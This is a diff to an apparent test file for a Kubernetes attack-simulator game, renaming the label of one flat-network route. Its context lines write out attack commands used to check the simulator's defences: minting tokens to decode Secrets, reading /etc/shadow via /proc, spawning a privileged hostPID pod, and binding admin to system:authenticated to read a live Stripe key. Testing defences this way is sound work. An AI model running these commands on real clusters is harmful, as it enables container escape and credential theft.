@@ -19,7 +19,7 @@ function found(id: string, lines: string[], defended = true): boolean {
 
 /** Roads checked to reach the flag on the undefended cluster (the others are tries the simulator already refuses). */
 const OPEN_WITHOUT_DEFENCE: string[] = [
-  'flat-network: the database by its pod IP',
+  'flat-network: the database by its Service name with .svc',
   'flat-network: another pod of shop',
   'bind-escalation: a RoleBinding to a group the lead is in',
 ];
@@ -31,7 +31,7 @@ const roads: [string, string, string[]][] = [
   ['pod-factory', 'a token requested for deployer', ["kubectl create token deployer -n ci > /tmp/t", "kubectl --token $(cat /tmp/t) get secret db-root -n prod -o jsonpath='{.data.password}' | base64 -d"]],
   ['node-escape', 'the host through /proc of the exporter', ['kubectl exec node-exporter -- cat /proc/1/root/etc/shadow', 'kubectl exec node-exporter -- ls /host']],
   ['node-escape', 'a new privileged pod on the node', ["kubectl run esc --image=busybox --overrides='{\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"esc\",\"image\":\"busybox\",\"securityContext\":{\"privileged\":true}}]}}' -- sleep 3600", 'kubectl exec esc -- cat /proc/1/root/var/lib/kubelet/pods']],
-  ['flat-network', 'the database by its pod IP', ["kubectl get pods -n data -o wide", 'kubectl exec frontend -- curl -s http://orders-db.data.svc/export.json']],
+  ['flat-network', 'the database by its Service name with .svc', ["kubectl get pods -n data -o wide", 'kubectl exec frontend -- curl -s http://orders-db.data.svc/export.json']],
   ['flat-network', 'another pod of shop', ['kubectl get pods -n shop', 'kubectl exec frontend -n shop -- wget -qO- http://orders-db.data/export.json']],
   ['bind-escalation', 'bind view then read the Secret', ['kubectl create rolebinding mine --clusterrole=view --user=team-lead', "kubectl get secret stripe-live -o jsonpath='{.data.key}' | base64 -d"]],
   ['bind-escalation', 'a RoleBinding to a group the lead is in', ['kubectl create rolebinding mine --clusterrole=admin --group=system:authenticated', "kubectl get secret stripe-live -o jsonpath='{.data.key}' | base64 -d"]],
